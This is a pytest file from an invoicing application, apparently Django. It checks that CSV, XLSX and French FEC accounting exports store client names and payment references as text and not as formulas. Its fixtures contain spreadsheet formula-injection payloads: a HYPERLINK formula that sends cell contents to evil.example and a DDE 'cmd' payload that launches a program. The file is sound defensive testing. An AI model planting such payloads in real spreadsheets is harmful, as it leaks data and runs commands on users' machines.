"""No export lets a person's text run as a formula in a spreadsheet: a hostile client
name, payment reference or bank label comes out as text; amounts stay numbers; the
FEC keeps its fixed columns and the books' words as they are."""

import csv
import datetime
import io
import re
from decimal import Decimal
from pathlib import Path

import openpyxl
import pytest
from django.urls import reverse

from facturier.core import spreadsheet
from facturier.invoicing import actions as invoicing
from facturier.receivables import actions, fec
from tests.receivables.camt import entry, statement

pytestmark = pytest.mark.django_db

HOSTILE_NAME = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
HOSTILE_REFERENCE = "@SUM(1+1)*cmd|' /C calc'!A0"
HOSTILE_LABEL = "+33 VIR =cmd"
LINE = {"description": "Mission", "quantity": "1", "unit_price": "100.00", "vat_rate": "20"}
TODAY = datetime.date.today()


@pytest.mark.parametrize(
    "text", ["=1+1", "+1", "-2+3", "@A1", "\t=1", "\r=1", "\n=1", "  =1", "\u00a0=1"]
)
def test_text_a_spreadsheet_would_run_is_marked_as_text(text):
    assert spreadsheet.text_cell(text) == "'" + text
    [line] = spreadsheet.csv_lines([[text]])
    assert next(csv.reader(io.StringIO(line))) == ["'" + text]


@pytest.mark.parametrize(
    "value", [Decimal("-120.00"), -5, 1.5, Decimal(0), TODAY, None, "Client SA", "", "12-3"]
)
def test_numbers_dates_and_plain_text_are_left_alone(value):
    assert spreadsheet.text_cell(value) is value


def test_every_csv_and_xlsx_writer_goes_through_the_guard():
    """A new export that writes rows another way would bring the hole back."""
    source = Path(spreadsheet.__file__).parents[1]
    for path in source.rglob("*.py"):
        text = path.read_text()
        if path.name == "spreadsheet.py":
            continue
        assert not re.search(r"csv\.(writer|DictWriter)\(", text), path
        if "openpyxl" in text:
            assert "xlsx_row" in text and "sheet.append(spreadsheet.xlsx_row" in text, path


@pytest.fixture
def hostile(make_draft, make_client, firm, alice, template):
    """A client named to run a formula, an invoice to it, a payment with a hostile
    reference, and one that came from a bank line with a hostile label."""
    client = make_client(firm, name=HOSTILE_NAME)
    client.owners.add(alice)
    invoice = invoicing.finalize_invoice(make_draft(client=client, lines=[LINE]), by=alice)
    actions.record_payment(
        by=alice,
        client=client,
        amount=Decimal("20.00"),
        received_on=TODAY,
        reference=HOSTILE_REFERENCE,
        allocations=[{"invoice": invoice.pk}],
    )
    bank = actions.import_bank_statement(
        by=alice, data=statement(entry("30.00", text=HOSTILE_LABEL, bank_ref="H1"))
    )
    line = bank.lines.get()
    actions.confirm_statement_lines(
        bank, by=alice, decisions=[{"line": line.pk, "invoice": invoice.pk}]
    )
    return client, invoice


def _csv(response) -> list[list[str]]:
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text)))


def _logged_in(client, alice):
    client.force_login(type(alice).objects.get(pk=alice.pk))
    return client


def test_the_documents_csv(hostile, client, alice):
    period = {"start": TODAY.replace(month=1, day=1), "end": TODAY}
    rows = _csv(
        _logged_in(client, alice).get(reverse("billing:exports"), {"kind": "documents", **period})
    )
    [row] = [row for row in rows[1:] if HOSTILE_NAME in row[4]]
    assert row[4] == "'" + HOSTILE_NAME
    assert [Decimal(cell) for cell in row[7:11]] == [
        Decimal("100.00"),
        Decimal("20.00"),
        Decimal("120.00"),
        Decimal("70.00"),
    ]


def test_the_payments_csv(hostile, client, alice):
    period = {"start": TODAY.replace(month=1, day=1), "end": TODAY}
    rows = _csv(
        _logged_in(client, alice).get(reverse("billing:exports"), {"kind": "payments", **period})
    )
    by_amount = {row[5]: row for row in rows[1:]}
    assert by_amount["20.00"][1] == "'" + HOSTILE_NAME
    assert by_amount["20.00"][3] == "'" + HOSTILE_REFERENCE
    assert by_amount["30.00"][3].startswith("'" + HOSTILE_LABEL)


def test_the_aging_csv_and_xlsx(hostile, client, alice):
    browser = _logged_in(client, alice)
    response = browser.get(reverse("billing:aging"), {"format": "csv"})
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    [row] = [row for row in rows if HOSTILE_NAME in row[0]]
    assert row[0] == "'" + HOSTILE_NAME and Decimal(row[-1]) == Decimal("70.00")

    response = browser.get(reverse("billing:aging"), {"format": "xlsx"})
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    [cells] = [cells for cells in sheet.iter_rows() if cells[0].value == HOSTILE_NAME]
    name, total = cells[0], cells[-1]
    # Text as it is, in a text cell marked as typed text: never a formula.
    assert (name.data_type, name.quotePrefix) == ("s", True)
    assert (total.data_type, total.value) == ("n", 70)


def test_a_negative_amount_stays_a_number_cell_in_the_xlsx():
    book = openpyxl.Workbook(write_only=True)
    sheet = book.create_sheet("x")
    sheet.append(spreadsheet.xlsx_row(sheet, ["-12", Decimal("-12.50"), "Client\x01 SA"]))
    buffer = io.BytesIO()
    book.save(buffer)
    text, number, cleaned = next(openpyxl.load_workbook(buffer).active.iter_rows())
    assert (text.data_type, text.value, text.quotePrefix) == ("s", "-12", True)
    assert (number.data_type, number.value) == ("n", -12.5)
    assert cleaned.value == "Client SA"  # a control character XML cannot hold


def test_the_fec_keeps_its_columns_and_the_books_words(hostile, firm):
    """The FEC is the books as the law describes them, read by accounting software and
    the tax administration's tools: the client's name and the payment's reference are
    stated as recorded; only what would break its fixed columns is taken out."""
    client, _invoice = hostile
    client.name = HOSTILE_NAME + "\tX\r\nY"
    client.save()
    start, end = fec.fiscal_year(fec.ledger_for(firm.pk), TODAY.year)
    lines = "".join(fec.fec_lines(firm.pk, start, end)).split("\r\n")[:-1]
    rows = [line.split("\t") for line in lines]
    assert {len(row) for row in rows} == {18}
    names = {row[7] for row in rows[1:] if row[6]}
    assert names == {HOSTILE_NAME + " X Y"}
    # The payment paid one invoice: its piece is the invoice, its reference in the label.
    assert any(row[10].endswith(HOSTILE_REFERENCE) for row in rows[1:] if row[0] == "BQ")
